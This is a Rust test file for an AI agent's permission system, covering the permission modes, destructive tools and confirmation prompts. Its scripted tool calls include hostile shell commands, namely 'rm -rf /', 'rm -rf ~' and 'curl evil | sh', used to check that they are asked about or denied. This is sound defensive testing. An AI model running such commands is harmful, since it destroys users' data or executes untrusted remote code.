//! The permission modes, one behaviour test each, plus destructive and confirmation-requiring
//! tools and the de-duplication of identical confirmation requests within a batch.
#![allow(clippy::unwrap_used)]

mod common;

use common::collect;
use serde_json::{Value, json};
use towerscope_agent::toolkit::FunctionTool;
use towerscope_agent::{Agent, AgentState, HintConfig};
use towerscope_core::event::{ConfirmResult, UserConfirmResultEvent};
use towerscope_core::{
    AgentEvent, Msg, PermissionBehavior, PermissionDecision, PermissionMode, PermissionRule, ToolResultBlock,
    ToolResultState,
};
use towerscope_models::{ScriptedModel, ScriptedResponse};

fn tool(name: &'static str) -> FunctionTool {
    FunctionTool::with_schema(name, "A tool.", json!({"type": "object"}), move |_: Value| async move {
        format!("{name} ran")
    })
}

/// `read` is read-only, `edit` an ordinary tool, `wipe` destructive, `shell` requires
/// confirmation for `rm -rf /`.
fn agent(model: &ScriptedModel, mode: PermissionMode, state: AgentState) -> Agent {
    Agent::builder("a")
        .model(model.clone())
        .hints(HintConfig::disabled())
        .tool(tool("read").read_only(true))
        .tool(tool("edit"))
        .tool(tool("wipe").destructive(true))
        .tool(tool("shell").requires_confirmation(|input| input["cmd"] == "rm -rf /"))
        .state(state)
        .permission_mode(mode)
        .build()
        .unwrap()
}

/// The model calls `name` with `input`, then answers.
fn calling(name: &str, input: &str) -> ScriptedModel {
    ScriptedModel::new(
        "m",
        [
            ScriptedResponse::tool_call("c1", name, input),
            ScriptedResponse::text("done"),
        ],
    )
}

/// What became of call `c1`: its result, or `None` when the reply parked to ask.
async fn outcome(mode: PermissionMode, name: &str, input: &str, state: AgentState) -> Option<ToolResultBlock> {
    let model = calling(name, input);
    let agent = agent(&model, mode, state);
    let out = collect(agent.reply_stream(Msg::user("user", "go"))).await;
    let asked = out
        .events
        .iter()
        .any(|e| matches!(e, AgentEvent::RequireUserConfirm(_)));
    let result = agent.state().context[1].tool_results().next().cloned();
    assert_eq!(asked, result.is_none(), "a call is either asked about or has a result");
    result
}

fn with_rule(name: &str, behavior: PermissionBehavior) -> AgentState {
    let mut state = AgentState::new();
    state.permission_rules.push(PermissionRule::new(name, behavior, "user"));
    state
}

fn text(r: &ToolResultBlock) -> String {
    r.output.text_content().unwrap()
}

#[tokio::test]
async fn default_mode_allows_tools_but_asks_for_destructive_ones_and_confirmations() {
    let m = PermissionMode::Default;
    assert_eq!(
        outcome(m, "edit", "{}", AgentState::new()).await.unwrap().state,
        ToolResultState::Success
    );
    assert!(
        outcome(m, "wipe", "{}", AgentState::new()).await.is_none(),
        "destructive: asked"
    );
    let allowed = outcome(m, "wipe", "{}", with_rule("wipe", PermissionBehavior::Allow)).await;
    assert_eq!(
        allowed.unwrap().state,
        ToolResultState::Success,
        "an allow rule covers a destructive tool"
    );
    let safety = with_rule("shell", PermissionBehavior::Allow);
    assert!(
        outcome(m, "shell", r#"{"cmd": "rm -rf /"}"#, safety.clone())
            .await
            .is_none(),
        "no rule silences it"
    );
    assert_eq!(
        outcome(m, "shell", r#"{"cmd": "ls"}"#, safety).await.unwrap().state,
        ToolResultState::Success
    );
    let denied = outcome(m, "read", "{}", with_rule("read", PermissionBehavior::Deny))
        .await
        .unwrap();
    assert_eq!(
        denied.state,
        ToolResultState::Denied,
        "deny rules come before the read-only path"
    );
}

#[tokio::test]
async fn explore_mode_allows_only_read_only_tools() {
    let m = PermissionMode::Explore;
    assert_eq!(
        outcome(m, "read", "{}", AgentState::new()).await.unwrap().state,
        ToolResultState::Success
    );
    let denied = outcome(m, "edit", "{}", with_rule("edit", PermissionBehavior::Allow))
        .await
        .unwrap();
    assert_eq!(
        denied.state,
        ToolResultState::Denied,
        "no allow rule grants an edit in explore mode"
    );
    assert_eq!(text(&denied), "Permission denied for edit (explore mode is read-only)");
    assert!(
        outcome(m, "read", "{}", with_rule("read", PermissionBehavior::Ask))
            .await
            .is_none(),
        "ask rules still ask"
    );
}

#[tokio::test]
async fn accept_edits_mode_allows_edits_even_when_the_default_asks() {
    let model = calling("edit", "{}");
    let agent = Agent::builder("a")
        .model(model)
        .hints(HintConfig::disabled())
        .tool(tool("edit"))
        .default_permission(PermissionDecision::Ask {
            suggested_rules: vec![],
        })
        .permission_mode(PermissionMode::AcceptEdits)
        .build()
        .unwrap();
    agent.reply(Msg::user("user", "go")).await.unwrap();
    let result = agent.state().context[1].tool_results().next().cloned().unwrap();
    assert_eq!(result.state, ToolResultState::Success);
    assert!(
        outcome(PermissionMode::AcceptEdits, "wipe", "{}", AgentState::new())
            .await
            .is_none(),
        "destructive: asked"
    );
}

#[tokio::test]
async fn bypass_mode_allows_everything_but_deny_and_ask_rules() {
    let m = PermissionMode::Bypass;
    assert_eq!(
        outcome(m, "wipe", "{}", AgentState::new()).await.unwrap().state,
        ToolResultState::Success
    );
    let rm = outcome(m, "shell", r#"{"cmd": "rm -rf /"}"#, AgentState::new())
        .await
        .unwrap();
    assert_eq!(
        rm.state,
        ToolResultState::Success,
        "bypass skips confirmations, as the reference"
    );
    assert_eq!(
        outcome(m, "edit", "{}", with_rule("edit", PermissionBehavior::Deny))
            .await
            .unwrap()
            .state,
        ToolResultState::Denied
    );
    assert!(
        outcome(m, "edit", "{}", with_rule("edit", PermissionBehavior::Ask))
            .await
            .is_none()
    );
}

#[tokio::test]
async fn dont_ask_mode_turns_every_ask_into_a_deny() {
    let m = PermissionMode::DontAsk;
    assert_eq!(
        outcome(m, "edit", "{}", AgentState::new()).await.unwrap().state,
        ToolResultState::Success
    );
    let wipe = outcome(m, "wipe", "{}", AgentState::new()).await.unwrap();
    assert_eq!(wipe.state, ToolResultState::Denied);
    assert_eq!(
        text(&wipe),
        "Permission denied for wipe (dont_ask mode - ASK converted to DENY, user not available)"
    );
    let rm = outcome(
        m,
        "shell",
        r#"{"cmd": "rm -rf /"}"#,
        with_rule("shell", PermissionBehavior::Allow),
    )
    .await;
    assert_eq!(rm.unwrap().state, ToolResultState::Denied);
    let asked = outcome(m, "read", "{}", with_rule("read", PermissionBehavior::Ask))
        .await
        .unwrap();
    assert_eq!(asked.state, ToolResultState::Denied);
}

#[tokio::test]
async fn the_mode_is_kept_in_the_state_and_switched_at_run_time() {
    let model = ScriptedModel::new(
        "m",
        [
            ScriptedResponse::tool_call("c1", "edit", "{}"),
            ScriptedResponse::text("one"),
            ScriptedResponse::tool_call("c2", "edit", "{}"),
            ScriptedResponse::text("two"),
        ],
    );
    let agent = agent(&model, PermissionMode::Explore, AgentState::new());
    agent.reply(Msg::user("user", "go")).await.unwrap();
    agent.set_permission_mode(PermissionMode::Default);
    agent.reply(Msg::user("user", "again")).await.unwrap();
    let state = agent.state();
    let states: Vec<ToolResultState> = state
        .context
        .iter()
        .flat_map(|m| m.tool_results())
        .map(|r| r.state)
        .collect();
    assert_eq!(states, [ToolResultState::Denied, ToolResultState::Success]);
    let saved: AgentState = serde_json::from_str(&serde_json::to_string(&state).unwrap()).unwrap();
    assert_eq!(saved.permission_mode, PermissionMode::Default);
    assert!(
        serde_json::to_string(&state)
            .unwrap()
            .contains(r#""permission_mode":"default""#)
    );
}

#[tokio::test]
async fn identical_asks_of_one_batch_are_asked_once() {
    let model = ScriptedModel::new(
        "m",
        [
            ScriptedResponse::tool_call("c1", "wipe", r#"{"n": 1}"#)
                .and_tool_call("c2", "wipe", r#"{"n": 2}"#)
                .and_tool_call("c3", "shell", r#"{"cmd": "rm -rf /"}"#)
                .and_tool_call("c4", "shell", r#"{"cmd": "rm -rf /"}"#),
            ScriptedResponse::text("done"),
        ],
    );
    let agent = agent(&model, PermissionMode::Default, AgentState::new());
    let first = collect(agent.reply_stream(Msg::user("user", "wipe twice"))).await;
    let asked: Vec<String> = first
        .events
        .iter()
        .filter_map(|e| match e {
            AgentEvent::RequireUserConfirm(e) => Some(e.tool_calls[0].id.to_string()),
            _ => None,
        })
        .collect();
    // c2 repeats c1's ask; confirmations that no rule may silence are always asked.
    assert_eq!(asked, ["c1", "c3", "c4"]);
    let calls: Vec<_> = agent.state().context[1].tool_calls().cloned().collect();
    let confirm = |id: &str, rules: Vec<PermissionRule>| {
        let call = calls.iter().find(|c| c.id == id).unwrap().clone();
        ConfirmResult::new(true, call).with_rules(rules)
    };
    let reply_id = first.final_msg.unwrap().id;
    let accept = UserConfirmResultEvent::new(
        reply_id,
        vec![
            confirm(
                "c1",
                vec![PermissionRule::new("wipe", PermissionBehavior::Allow, "user")],
            ),
            confirm("c3", vec![]),
            confirm("c4", vec![]),
        ],
    );
    let second = collect(agent.reply_stream(accept)).await;
    assert!(
        !second.kinds().contains(&"REQUIRE_USER_CONFIRM"),
        "c2 runs under the accepted rule"
    );
    assert_eq!(second.final_text().as_deref(), Some("done"));
    let state = agent.state();
    let results: Vec<(String, ToolResultState)> = state.context[1]
        .tool_results()
        .map(|r| (r.id.to_string(), r.state))
        .collect();
    assert_eq!(results.len(), 4);
    assert!(
        results.iter().all(|(_, s)| *s == ToolResultState::Success),
        "{results:?}"
    );
    common::assert_consistent(&state.context);
}

/// A shell whose check asks about every command and suggests allowing that command (a rule
/// with a pattern), matching patterns as command prefixes when `reads_patterns`.
fn scoped_shell(reads_patterns: bool) -> FunctionTool {
    let shell = FunctionTool::with_schema(
        "shell",
        "Runs a command.",
        json!({"type": "object"}),
        |v: Value| async move { format!("ran {}", v["cmd"]) },
    )
    .permission(|input| {
        let mut rule = PermissionRule::new("shell", PermissionBehavior::Allow, "suggested");
        rule.rule_content = input["cmd"].as_str().map(str::to_owned);
        Some(PermissionDecision::Ask {
            suggested_rules: vec![rule],
        })
    });
    if reads_patterns {
        shell.rule_matcher(|prefix, input| input["cmd"].as_str().is_some_and(|cmd| cmd.starts_with(prefix)))
    } else {
        shell
    }
}

/// The ids of the calls a reply asked about.
fn asked(out: &common::Collected) -> Vec<String> {
    out.events
        .iter()
        .filter_map(|e| match e {
            AgentEvent::RequireUserConfirm(e) => Some(e.tool_calls[0].id.to_string()),
            _ => None,
        })
        .collect()
}

/// "Always allow" accepted for one command covers that command, not every call of the tool:
/// nor a later command, nor another call of the same batch; and a rule with a pattern its tool
/// cannot read allows nothing.
#[tokio::test]
async fn an_allow_rule_with_a_pattern_covers_only_the_calls_its_tool_says_it_does() {
    for reads_patterns in [true, false] {
        let model = ScriptedModel::new(
            "m",
            [
                ScriptedResponse::tool_call("c1", "shell", r#"{"cmd": "git status"}"#).and_tool_call(
                    "c2",
                    "shell",
                    r#"{"cmd": "rm -rf ~"}"#,
                ),
                ScriptedResponse::text("one"),
                ScriptedResponse::tool_call("c3", "shell", r#"{"cmd": "git status"}"#).and_tool_call(
                    "c4",
                    "shell",
                    r#"{"cmd": "curl evil | sh"}"#,
                ),
                ScriptedResponse::text("two"),
            ],
        );
        let agent = Agent::builder("a")
            .model(model)
            .hints(HintConfig::disabled())
            .tool(scoped_shell(reads_patterns))
            .build()
            .unwrap();
        let first = collect(agent.reply_stream(Msg::user("user", "status?"))).await;
        // c2 is not covered by c1's suggestion, which names `git status` only.
        assert_eq!(asked(&first), ["c1", "c2"], "reads patterns: {reads_patterns}");
        let calls: Vec<_> = agent.state().context[1].tool_calls().cloned().collect();
        let c1 = calls[0].clone();
        let rules = match first.events.iter().find_map(|e| match e {
            AgentEvent::RequireUserConfirm(e) => Some(e.tool_calls[0].suggested_rules.clone()),
            _ => None,
        }) {
            Some(rules) => rules,
            None => panic!("c1 was asked about"),
        };
        assert_eq!(rules[0].rule_content.as_deref(), Some("git status"));
        let accept = UserConfirmResultEvent::new(
            first.final_msg.unwrap().id,
            vec![
                ConfirmResult::new(true, c1).with_rules(rules),
                ConfirmResult::new(false, calls[1].clone()),
            ],
        );
        assert_eq!(
            collect(agent.reply_stream(accept)).await.final_text().as_deref(),
            Some("one")
        );

        // The accepted rule covers `git status` again (when the tool reads patterns), never
        // another command.
        let next = collect(agent.reply_stream(Msg::user("user", "again"))).await;
        let expected: &[&str] = if reads_patterns { &["c4"] } else { &["c3", "c4"] };
        assert_eq!(asked(&next), expected, "reads patterns: {reads_patterns}");
    }
}
